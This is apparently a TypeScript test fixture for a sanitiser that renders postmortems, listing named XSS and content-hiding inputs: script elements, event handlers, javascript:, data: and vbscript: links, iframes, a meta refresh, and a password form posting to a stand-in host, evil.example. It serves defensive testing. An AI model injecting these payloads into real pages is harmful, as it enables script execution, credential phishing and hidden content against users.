/**
 * Ways raw HTML and Markdown links in a postmortem could run script, embed another document or hide
 * content, by name. The sanitiser's unit tests render each one; the build-level test builds a
 * postmortem made of all of them. Each mentions `alert`, `evil.example` or `display:none`, so what
 * survives is easy to find.
 */
export const attacks = {
  'a script element': '<script>alert("pwned")</script>',
  'a script element in odd case, with a source': '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  'an event handler on an image': '<img src="x.png" onerror="alert(1)" alt="chart">',
  'an event handler on svg': '<svg onload="alert(1)"><circle r="1"/></svg>',
  'an event handler on details': '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
  'a javascript: link in HTML': '<a href="javascript:alert(1)" onclick="alert(2)">click</a>',
  'a javascript: link with entities and case': '<a href="JaVa&#x09;ScRiPt&colon;alert(1)">click</a>',
  'a javascript: link in Markdown': '[click](javascript:alert(1))',
  'a data: link in HTML': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
  'a data: image in Markdown': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'a vbscript: link': '<a href="vbscript:msgbox(1)">old</a>',
  'an iframe': '<iframe src="https://evil.example/"></iframe>',
  'an object': '<object data="https://evil.example/x.swf"></object>',
  'an embed': '<embed src="https://evil.example/x.swf">',
  'a style element': '<style>main { display: none }</style>',
  'a style that hides content':
    '<div style="display:none">hidden</div><span style="position:absolute;left:-9999px">off</span>',
  'the hidden attribute': '<p hidden>hidden</p>',
  'a class that hides content': '<span class="visually-hidden skip-link">hidden</span>',
  'a meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a base element': '<base href="https://evil.example/">',
  'a stylesheet link': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a form': '<form action="https://evil.example/"><input type="password" name="p"><button>Log in</button></form>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'math with a link': '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
} as const;
